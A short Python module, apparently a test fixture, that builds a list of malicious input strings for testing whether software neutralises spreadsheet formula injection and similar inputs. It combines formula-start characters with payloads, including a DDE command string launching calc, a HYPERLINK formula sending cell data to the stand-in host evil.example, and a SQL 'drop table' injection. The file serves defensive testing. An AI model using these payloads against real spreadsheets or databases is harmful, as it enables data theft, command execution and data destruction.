"""Strings that break programs, and those that run in a sheet."""

from tests.attacks.payloads import naughty

LISTED = naughty()
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
RUNS = (
    "cmd|' /C calc'!A0", "1+1", 'HYPERLINK("https://evil.example?"&A1,"see")', "SUM(A1:A9)", "33123456789", "", "\x01x",
    '"; drop table leads; --', "a,b;c",
)  # fmt: skip
FORMULAS = [start + rest for start in STARTS for rest in RUNS]
NAUGHTY = [*LISTED, *FORMULAS]
